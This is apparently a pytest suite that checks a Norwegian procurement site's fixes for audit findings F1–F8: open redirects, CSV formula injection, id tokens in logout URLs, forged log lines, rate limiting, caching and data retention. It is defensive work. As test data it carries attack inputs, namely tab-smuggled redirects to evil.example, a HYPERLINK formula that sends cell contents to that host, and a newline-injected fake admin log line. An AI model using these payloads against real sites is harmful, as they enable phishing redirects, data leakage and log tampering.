"""The security findings of issue 18 (F1–F8 and the two small ones), one test each, on both databases.

Each test states the attack as it was made from outside and checks what the site answers now.
"""
from __future__ import annotations

import csv
import io
import re
from urllib.parse import urlsplit
from datetime import date, timedelta
from pathlib import Path

import pytest
import requests
from sqlmodel import Session, select

from catalogue.models import DPS, DPSCategory, LoginSession, utcnow
from tests.conftest import make_app
from tests.databases import drop_database, new_database
from tests.login import authorize, login, prepare, start, viewer_of


def db(app) -> Session:
    return Session(app.extensions["db_engine"])


def _tray(client, neste: str):
    client.application.config["WTF_CSRF_ENABLED"] = False
    return client.post("/sammenlign/kurv", data={"handling": "tom", "neste": neste})


# --- F1 / F5: the compare tray's return address ------------------------------------------

@pytest.mark.parametrize("neste", ["/\t/evil.example", "/\t\t/evil.example", "/\r/evil.example"])
def test_f1_the_tray_never_redirects_off_site(client, neste):
    response = _tray(client, neste)
    assert response.status_code == 302
    location = response.headers["Location"]
    # A path on this site: browsers drop tabs and newlines, so "/\t/evil" would be "//evil".
    assert location.startswith("/") and not location.startswith("//") and not urlsplit(location).netloc
    assert not re.match(r"^/[\s/\\]", location)


def test_f5_a_newline_in_the_return_address_is_not_a_500(client):
    response = _tray(client, "/\n/x")
    assert response.status_code == 302 and response.headers["Location"] == "/sammenlign"


# --- F2: a formula in the public CSV -------------------------------------------------------

def test_f2_a_dps_name_that_is_a_formula_is_neutralised_in_the_csv(app, client):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Klikk")'
    with db(app) as s:
        first = s.exec(select(DPS)).first()
        category = s.exec(select(DPSCategory).where(DPSCategory.dps_id == first.id)).first().category_id
        rogue = DPS(slug="formel", name=formula, valid_from=date(2026, 1, 1), valid_to=date(2030, 1, 1))
        s.add(rogue)
        s.flush()
        s.add(DPSCategory(dps_id=rogue.id, category_id=category))
        s.commit()
    body = client.get("/marked/dps.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert any(formula in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


# --- F3: no identity in a logout URL -----------------------------------------------------------

def test_f3_logout_puts_the_id_token_in_no_url(app, client):
    login(client, "kommune-innkjoper")
    page = client.get("/min-innlogging").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    response = client.post("/logout", data={"csrf_token": token})
    assert "Location" not in response.headers  # no redirect carrying parameters
    html = response.get_data(as_text=True)
    form = re.search(r'<form method="post" action="([^"]+)"', html)
    assert form and "?" not in form.group(1) and "eyJ" not in form.group(1)
    for url in re.findall(r'(?:href|action|src)="([^"]*)"', html):
        assert "eyJ" not in url and "id_token" not in url
    assert response.headers["Cache-Control"] == "no-store"


# --- F4: forged log lines ----------------------------------------------------------------------

def test_f4_a_newline_in_input_cannot_forge_a_log_line(app, tmp_path):
    """The real server process, its real log on standard error."""
    import os
    import subprocess
    import sys
    import time

    from tests.faults import free_port

    port = free_port()
    env = dict(os.environ, DATABASE_URL=app.config["DATABASE_URL"], MARKETPLACE_INSTANCE=str(tmp_path / "inst"),
               SECRET_KEY="test-secret-key", RATELIMIT_ENABLED="0", PYTHONUNBUFFERED="1",
               PUBLIC_BASE_URL=f"http://127.0.0.1:{port}")
    log = tmp_path / "server.log"
    with open(log, "w") as out:
        server = subprocess.Popen([sys.executable, "-m", "flask", "--app", "marketplace", "run", "--port", str(port)],
                                  cwd=Path(__file__).resolve().parent.parent, env=env, stdout=out,
                                  stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                requests.get(f"http://127.0.0.1:{port}/login",
                             params={"next": "\n2026-12-05 12:00:00 INFO marketplace FORGED admin login"}, timeout=10)
                break
            except requests.ConnectionError:
                time.sleep(0.2)
        time.sleep(0.5)
    finally:
        server.terminate()
        server.wait(10)
    lines = log.read_text().splitlines()
    assert any("Login refused" in line for line in lines), lines
    assert not [line for line in lines if line.startswith("2026-12-05 12:00:00 INFO marketplace FORGED")]


# --- F6: search is rate limited -----------------------------------------------------------------

def test_f6_search_has_a_rate_limit(template_db, tmp_path):
    url = new_database(tmp_path, template=template_db)
    app = make_app(url, tmp_path / "instance", RATELIMIT_ENABLED=True, RATELIMIT_STORAGE_URI="memory://",
                   SEARCH_RATE_LIMIT="3/minute")
    try:
        client = app.test_client()
        codes = [client.get("/tjenester", query_string={"q": f"sky{n}"}).status_code for n in range(4)]
        assert codes[-1] == 429 and 429 not in codes[:3]
    finally:
        app.extensions["db_engine"].dispose()
        drop_database(url)


# --- F7: nothing shown to a logged-in person is cached -------------------------------------------

@pytest.mark.parametrize("path", ["/", "/tjenester?q=sky", "/leverandorer", "/min-innlogging", "/marked/dps.csv"])
def test_f7_every_response_to_a_logged_in_person_is_no_store(client, path):
    assert "no-store" not in client.get(path).headers.get("Cache-Control", "") or path == "/min-innlogging"
    login(client, "kommune-innkjoper")
    assert client.get(path).headers["Cache-Control"] == "no-store"


# --- F8: no identity kept longer than needed --------------------------------------------------------

def test_f8_a_login_past_its_lifetime_loses_its_token_and_is_deleted_later(app, client):
    from auth.retention import sweep

    viewer = login(client, "kommune-innkjoper")
    with db(app) as s:
        row = s.exec(select(LoginSession).where(LoginSession.user_id == viewer.user_id)).one()
        assert row.id_token  # sealed, for logout
        row.created_at = utcnow() - timedelta(minutes=121)
        row.last_seen_at = utcnow() - timedelta(minutes=5)
        s.add(row)
        s.commit()
        done = sweep(s, retention=timedelta(days=30))
        s.commit()
        s.refresh(row)
        assert done.ended == 1 and row.ended_at is not None and row.id_token == ""
        # Deleted once the retention period after its end has passed.
        done = sweep(s, retention=timedelta(days=30), now=utcnow() + timedelta(days=31))
        s.commit()
        assert done.deleted == 1 and s.get(LoginSession, row.id) is None


def test_f8_the_test_provider_keeps_no_identity_number_in_its_codes(app, client):
    from auth.testid.models import ProviderCode
    from auth.testid.server import sweep_codes

    login(client, "kommune-innkjoper")  # one code made and redeemed
    with db(app) as s:
        codes = s.exec(select(ProviderCode)).all()
        assert codes and all(c.pid == "" and c.name == "" for c in codes)
    # An unredeemed code is deleted when it expires.
    path = start(client, "/")
    authorize(client, path, "stat-innkjoper", None, "idporten-loa-substantial")
    with db(app) as s:
        assert s.exec(select(ProviderCode).where(ProviderCode.pid != "")).all()
        assert sweep_codes(s, utcnow() + timedelta(seconds=61)) >= 1
        s.commit()
        assert s.exec(select(ProviderCode)).all() == []


# --- the small ones ----------------------------------------------------------------------------------

def test_the_callback_refuses_an_iss_with_a_trailing_slash(app, client):
    from tests.test_auth_flow import with_query

    prepare(app)
    callback = authorize(client, start(client, "/"), "kommune-innkjoper", None, "idporten-loa-substantial")
    response = client.get(with_query(callback, iss=app.config["OIDC_ISSUER"] + "/"))
    assert response.status_code == 400 and "annen innloggingstjeneste" in response.get_data(as_text=True)
    assert not viewer_of(client).is_authenticated


def test_the_development_server_names_no_version(shared_app):
    import threading

    from werkzeug.serving import make_server

    from marketplace.devserver import QuietRequestHandler

    server = make_server("127.0.0.1", 0, shared_app, threaded=True, request_handler=QuietRequestHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        response = requests.get(f"http://127.0.0.1:{server.server_port}/helse/live", timeout=10)
    finally:
        server.shutdown()
    assert response.headers["Server"] == "Markedsplassen"
    assert not [v for v in response.headers.values() if "Werkzeug" in v or "Python" in v]
